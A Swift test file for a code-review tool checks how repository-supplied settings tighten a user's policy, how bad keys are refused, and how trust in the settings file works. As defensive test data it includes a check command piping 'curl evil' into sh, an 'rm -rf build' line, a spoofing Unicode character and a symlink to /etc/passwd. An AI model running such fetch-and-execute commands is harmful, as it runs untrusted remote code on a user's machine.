// What a repository may ask of those who review in it, and whether it counts.

import TestSupport
import Approval
import Glibc
import Testing

@testable import Workstation

private let place = Array("/work/.countersign.toml".utf8)

private func parse(_ text: String) throws(ConfigurationError) -> RepositorySettings {
  try RepositorySettings.parse(Array(text.utf8), path: place)
}

struct RepositorySettingsTests {
  @Test func `a repository adds checks and paths, and asks for more`() throws {
    var own = Configuration()
    own.checks = [
      Configuration.Check(name: "test", command: .shell("make test")),
      Configuration.Check(name: "lint", command: .shell("make lint"), isRequired: true),
    ]
    own.policy.forbiddenPaths = [try #require(PathPattern("mine/"))]
    own.policy.isolatesChecks = false
    own.policy.minimumShownPercent = 40
    own.policy.sessionExpiryDays = 7
    let result = own.tightened(
      by: try parse(
        """
        [checks]
        audit = "make audit"
        lint = "true"
        [checks.test]
        command = "true"
        required = true
        [policy]
        forbidden_paths = ["theirs/"]
        protected_paths = ["a.*"]
        require_untouched_tip = true
        require_signed_approvals = true
        isolate_checks = true
        minimum_shown_percent = 90
        """))
    // The user's own commands stay: a repository does not say what they mean by a name.
    #expect(
      result.checks == [
        Configuration.Check(name: "audit", command: .shell("make audit")),
        Configuration.Check(name: "lint", command: .shell("make lint"), isRequired: true),
        Configuration.Check(name: "test", command: .shell("make test"), isRequired: true),
      ])
    #expect(result.policy.forbiddenPaths.map(\.text) == ["mine/", "theirs/"])
    #expect(result.policy.protectedPaths.map(\.text) == ["a.*"])
    #expect(result.policy.requiresUntouchedTip && result.policy.requiresSignedApprovals)
    #expect(result.policy.isolatesChecks && result.policy.minimumShownPercent == 90)
    #expect(result.policy.sessionExpiryDays == 7)
  }

  @Test func `whoever is to trust it sees commands whole, and everything else that it asks for`()
    throws
  {
    var own = Configuration()
    own.checks = [Configuration.Check(name: "test", command: .shell("make test"))]
    let settings = try parse(
      """
      [checks]
      test = "true"
      lint = "sh -c 'curl evil | sh'"
      [checks.two]
      command = \"\"\"
      true
      rm -rf build\"\"\"
      required = true
      [policy]
      forbidden_paths = ["a\u{202E}b"]
      isolate_checks = true
      minimum_shown_percent = 90
      """)
    #expect(
      settings.description(beside: own) == [
        "It asks for:", "  check lint, at most 600 s, runs:", "      sh -c 'curl evil | sh'",
        "  check test: your own command of that name runs instead",
        "  check two, required, at most 600 s, runs:", "      true", "      rm -rf build",
        "  no commit touches: a<U+202E>b", "  checks in a sandbox, or not at all",
        "  90 % of the approved lines on record as drawn",
      ])
    #expect(try parse("").description(beside: own) == ["It asks for nothing."])
  }

  @Test func `a repository that asks for little takes nothing away`() throws {
    var own = Configuration()
    own.policy.requiresUntouchedTip = true
    own.policy.requiresSignedApprovals = true
    own.policy.isolatesChecks = false
    own.policy.minimumShownPercent = 100
    #expect(own.tightened(by: try parse("[policy]\nminimum_shown_percent = 1\n")) == own)
    #expect(own.tightened(by: try parse("")) == own)
  }

  @Test(arguments: [
    ("[[endpoint]]\nname = \"x\"\n", "only your own config.toml may say this"),
    ("[worktree]\nsetup_command = \"x\"\n", "only your own config.toml may say this"),
    ("[commit]\nnotes = false\n", "only your own config.toml may say this"),
    ("theme = \"x\"\n", "only your own config.toml may say this"),
    ("[policy]\nisolate_checks = false\n", "tightens nothing"),
    ("[policy]\nrequire_untouched_tip = false\n", "tightens nothing"),
    ("[policy]\nsession_expiry_days = 1\n", "tightens nothing"),
    ("[policy]\nforbidden_paths = [\"[\"]\n", "must be a pattern as in .gitignore"),
    ("[policy]\nforbidden_paths = [\"infra/ \"]\n", "must be a pattern as in .gitignore"),
    ("[polcy]\n", "did you mean \"policy\"?"),
    ("[checks]\n\"a b\" = \"x\"\n", "a check's name"),
    ("[policy]\nminimum_shown_percent = 101\n", "between 0 and 100"),
  ])
  func `anything else is refused with its place`(_ text: String, _ words: String) {
    do {
      _ = try parse(text)
      Issue.record("\(text) was taken")
    } catch {
      #expect("\(error)".contains(words) && "\(error)".contains("line "), "\(error)")
    }
  }

  @Test func `only the content that was trusted counts, and only in its repository`() throws {
    let scratch = Scratch()
    let locations = try StateLocations(
      environment: ["HOME": scratch.text("home"), "XDG_STATE_HOME": scratch.text("state")])
    func trust(_ repository: String) -> RepositoryTrust {
      RepositoryTrust(
        locations: locations, workDirectory: Array(scratch.text("work").utf8),
        gitCommonDirectory: Array(repository.utf8))
    }
    let here = trust("/one/.git")
    #expect(here.standing() == .absent)
    #expect(try !here.revoke())
    try #require(mkdir(scratch.text("work"), 0o700) == 0)
    let content = Array("[policy]\nrequire_untouched_tip = true\n".utf8)
    scratch.write(content, to: "work/.countersign.toml")
    let settings = try RepositorySettings.parse(content, path: here.path)
    #expect(here.standing() == .untrusted)
    try here.trust(content)
    #expect(here.standing() == .trusted(settings))
    #expect(trust("/two/.git").standing() == .untrusted)
    // Whoever can write files puts nothing out of force.
    for other in [Array("[policy]\n".utf8), Array("no toml".utf8)] {
      scratch.write(other, to: "work/.countersign.toml")
      #expect(here.standing() == .superseded(settings, isGone: false))
    }
    try #require(unlink(scratch.text("work/.countersign.toml")) == 0)
    #expect(here.standing() == .superseded(settings, isGone: true))
    #expect(here.standing().inForce == settings && here.standing().remark != nil)
    try #require(symlink("/nowhere", scratch.text("work/.countersign.toml")) == 0)
    #expect(here.standing() == .superseded(settings, isGone: false))
    try #require(unlink(scratch.text("work/.countersign.toml")) == 0)
    scratch.write(content, to: "work/.countersign.toml")
    #expect(here.standing() == .trusted(settings))
    #expect(try here.revoke())
    #expect(here.standing() == .untrusted)
  }

  @Test func `a link or a directory of that name is no settings file`() throws {
    let scratch = Scratch()
    let locations = try StateLocations(
      environment: ["HOME": scratch.text("home"), "XDG_STATE_HOME": scratch.text("state")])
    let trust = RepositoryTrust(
      locations: locations, workDirectory: Array(scratch.text("work").utf8),
      gitCommonDirectory: Array("/one/.git".utf8))
    try #require(mkdir(scratch.text("work"), 0o700) == 0)
    for make in [
      { symlink("/etc/passwd", $0) }, { mkdir($0, 0o700) }, { mkfifo($0, 0o600) },
    ] as [(String) -> Int32] {
      let path = scratch.text("work/.countersign.toml")
      try #require(make(path) == 0)
      guard case .unusable = trust.standing() else {
        Issue.record("\(trust.standing())")
        return
      }
      #expect(remove(path) == 0)
    }
  }
}
